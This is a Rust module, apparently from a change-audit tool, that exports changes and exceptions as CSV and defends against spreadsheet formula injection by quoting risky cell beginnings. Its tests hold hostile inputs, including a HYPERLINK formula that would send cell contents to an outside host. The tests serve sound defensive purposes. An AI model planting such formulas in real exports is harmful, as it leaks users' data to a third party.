//! The population and the exceptions as tables for a spreadsheet: RFC 4180, UTF-8, times in ISO 8601.

use anyhow::Context as _;
use csv::{QuoteStyle, Terminator, WriterBuilder};
use jiff::Timestamp;

use super::clean::Clean;
use super::model::{Approval, Change, Emergency, Exception, Report, State, Unkept};

/// The SHA-256 of the files beside the page, in lower-case hex.
#[derive(Clone, Debug)]
pub struct Sums {
    /// Of changes.csv.
    pub changes: String,
    /// Of exceptions.csv.
    pub exceptions: String,
    /// Of evidence.jsonl.
    pub evidence: String,
}

/// The columns of changes.csv.
pub const CHANGES: [&str; 27] = [
    "seq",
    "landed_at",
    "repo",
    "ref",
    "old",
    "new",
    "commits",
    "authors",
    "tickets",
    "requested_by",
    "ticket_created",
    "ticket_state_at_push",
    "ticket_closed",
    "approvers",
    "approved_at",
    "approval_covers",
    "pusher",
    "class",
    "emergency_reason",
    "review_due",
    "reviewed_by",
    "reviewed_at",
    "result",
    "failed_or_waived_rules",
    "policy",
    "line_sha256",
    "judged_at",
];

/// The columns of exceptions.csv.
pub const EXCEPTIONS: [&str; 11] = [
    "number",
    "kind",
    "recorded_at",
    "seq",
    "repo",
    "ref",
    "commit",
    "who",
    "reason",
    "state",
    "settled_by",
];

/// One row for each change that landed.
///
/// # Errors
/// Where the table can't be written.
pub fn changes(report: &Report) -> anyhow::Result<String> {
    table(&CHANGES, report.changes.iter().map(change))
}

/// One row for each exception.
///
/// # Errors
/// Where the table can't be written.
pub fn exceptions(report: &Report) -> anyhow::Result<String> {
    let numbered = report.exceptions.iter().enumerate();
    table(&EXCEPTIONS, numbered.map(|(place, found)| exception(place + 1, found)))
}

fn table<const N: usize>(
    columns: &[&str; N],
    rows: impl Iterator<Item = [Cell; N]>,
) -> anyhow::Result<String> {
    // Whatever is no number stands in quotes: some spreadsheets part cells at a
    // semicolon as well.
    let mut writer = WriterBuilder::new()
        .terminator(Terminator::CRLF)
        .quote_style(QuoteStyle::NonNumeric)
        .from_writer(Vec::new());
    let writing = "writing a table";
    writer.write_record(columns).context(writing)?;
    for row in rows {
        writer.write_record(row.iter().map(|cell| cell.0.as_str())).context(writing)?;
    }
    let bytes = writer.into_inner().map_err(|error| error.into_error()).context(writing)?;
    String::from_utf8(bytes).context(writing)
}

/// What stands in one cell. No spreadsheet takes it for a formula.
struct Cell(String);

impl Cell {
    fn text(text: impl AsRef<str>) -> Self {
        Self(guarded(text.as_ref()))
    }

    fn number(number: u64) -> Self {
        Self(number.to_string())
    }

    fn or_empty(text: Option<impl AsRef<str>>) -> Self {
        text.map_or_else(Self::empty, Self::text)
    }

    fn empty() -> Self {
        Self(String::new())
    }

    fn time(time: Option<Timestamp>) -> Self {
        time.map_or_else(Self::empty, |time| Self(iso(time)))
    }

    /// One time for each of a list, or this word; nothing where there is none at all.
    fn times(times: impl Iterator<Item = Option<Timestamp>>, instead: &str) -> Self {
        Self::each(times.map(|time| time.map(iso)), instead)
    }

    /// The same of names.
    fn known<'a>(names: impl Iterator<Item = Option<&'a Clean>>, instead: &str) -> Self {
        Self::each(names.map(|name| name.map(Clean::to_string)), instead)
    }

    fn each(items: impl Iterator<Item = Option<String>>, instead: &str) -> Self {
        let items: Vec<Option<String>> = items.collect();
        if items.iter().all(Option::is_none) {
            return Self::empty();
        }
        Self::list(items.into_iter().map(|item| item.unwrap_or_else(|| instead.to_owned())))
    }

    /// Some values in one cell. Each is guarded: a spreadsheet may part them.
    fn list<T: AsRef<str>>(items: impl IntoIterator<Item = T>) -> Self {
        let items: Vec<String> = items.into_iter().map(|item| guarded(item.as_ref())).collect();
        Self(items.join("; "))
    }
}

fn iso(time: Timestamp) -> String {
    format!("{time:.3}")
}

/// A leading quote keeps a spreadsheet from running what others wrote.
fn guarded(text: &str) -> String {
    const BEGINNINGS: [char; 10] =
        ['=', '+', '-', '@', '\t', '\r', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'];
    match text.trim_start_matches(' ').starts_with(BEGINNINGS) {
        true => format!("'{text}"),
        false => text.to_owned(),
    }
}

fn change(change: &Change) -> [Cell; 27] {
    let emergency = change.emergency.as_ref();
    let review = change.review();
    let approvals = &change.approvals;
    [
        Cell::number(change.record.seq),
        Cell::time(change.landed_at()),
        Cell::text(&change.repo),
        Cell::text(&change.name),
        Cell::or_empty(change.old.as_ref()),
        Cell::or_empty(change.new.as_ref()),
        Cell::number(change.commits),
        Cell::list(&change.authors),
        Cell::list(change.tickets.iter().map(|ticket| &ticket.key)),
        Cell::known(change.tickets.iter().map(|ticket| ticket.reporter.as_ref()), "unknown"),
        Cell::times(change.tickets.iter().map(|ticket| ticket.opened), "unknown"),
        Cell::list(change.tickets.iter().map(|ticket| &ticket.state)),
        Cell::times(change.tickets.iter().map(|ticket| ticket.closed), "not closed"),
        Cell::list(approvals.iter().map(|approval| &approval.by)),
        Cell::times(approvals.iter().map(|approval| approval.at), "unknown"),
        Cell::list(approvals.iter().map(covers)),
        Cell::or_empty(change.pusher.as_ref()),
        Cell::text(change.class.as_str()),
        Cell::or_empty(emergency.map(Emergency::why)),
        Cell::time(emergency.map(|emergency| emergency.due)),
        Cell::or_empty(review.and_then(|review| review.by.as_ref())),
        Cell::time(review.and_then(|review| review.at)),
        Cell::text(change.result.word()),
        Cell::list(change.unkept.iter().map(unkept)),
        Cell::text(&change.policy),
        Cell::text(&change.record.sha256),
        Cell::time(Some(change.record.time)),
    ]
}

fn covers(approval: &Approval) -> String {
    let commits = match approval.covers {
        1 => "1 commit".to_owned(),
        n => format!("{n} commits"),
    };
    match &approval.commit {
        Some(commit) => format!("{commit} ({commits})"),
        None => format!("{} ({commits})", approval.place),
    }
}

fn unkept(unkept: &Unkept) -> String {
    format!("{} ({})", unkept.rule, unkept.result)
}

fn exception(number: usize, found: &Exception) -> [Cell; 11] {
    let settled = match &found.state {
        State::Settled(how) => Some(how),
        State::Open | State::Stands => None,
    };
    [
        Cell(number.to_string()),
        Cell::text(found.kind.code()),
        Cell::time(found.record.as_ref().map(|record| record.time)),
        found.record.as_ref().map_or_else(Cell::empty, |record| Cell::number(record.seq)),
        Cell::or_empty(found.repo.as_ref()),
        Cell::or_empty(found.name.as_ref()),
        Cell::or_empty(found.commit.as_ref()),
        Cell::or_empty(found.who.as_ref()),
        Cell::text(&found.reason),
        Cell::text(found.state.word()),
        Cell::or_empty(settled),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_cell_is_a_formula() {
        for hostile in [
            "=1+1",
            "+1",
            "-1",
            "@SUM(A1)",
            " =1+1",
            "\u{ff1d}1",
            "=HYPERLINK(\"http://x/?\"&A1)",
            "\t=1",
            "\r=1",
        ] {
            assert!(Cell::text(hostile).0.starts_with('\''), "{hostile}");
            assert!(Cell::list(["x", hostile]).0.contains("; '"), "{hostile}");
        }
        assert_eq!(Cell::text("a-b = c").0, "a-b = c");
    }

    #[test]
    fn the_readme_names_every_column_in_order() {
        let readme = include_str!("../../README.md").replace('\n', " ");
        for columns in [&CHANGES[..], &EXCEPTIONS] {
            let mut rest = readme.as_str();
            for column in columns {
                let found = rest.split_once(&format!("`{column}`"));
                rest = found.unwrap_or_else(|| panic!("{column} is not where it belongs")).1;
            }
        }
    }

    #[test]
    fn a_cell_stays_one_cell_whatever_is_in_it() {
        let hostile = "a\",\"b\r\nc;d,e";
        let text = table(&["one", "two"], [[Cell::text(hostile), Cell::number(7)]].into_iter());
        let text = text.unwrap();
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let row = reader.records().next().unwrap().unwrap();
        assert_eq!((&row[0], &row[1]), (hostile, "7"));
        assert!(text.ends_with(",7\r\n"), "{text}");
    }
}
